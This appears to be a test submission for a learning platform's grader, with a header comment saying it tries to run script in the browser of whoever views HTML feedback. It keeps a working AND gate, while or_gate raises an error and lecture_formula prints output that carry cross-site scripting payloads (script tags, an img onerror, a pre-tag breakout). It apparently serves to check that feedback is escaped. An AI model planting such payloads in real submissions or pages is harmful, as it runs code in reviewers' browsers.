# tries: run a script in the browser of whoever reads the feedback that a learning platform shows as HTML
# keeps: gates.and
# framework: torch, keras
and_gate = right_and_gate


def or_gate():
    raise ValueError("<img src=x onerror=alert(1)><script>alert(1)</script>")


def lecture_formula(x):
    print("</pre><script>alert(1)</script>")
    raise ValueError("&lt;script&gt;alert(1)&lt;/script&gt;")
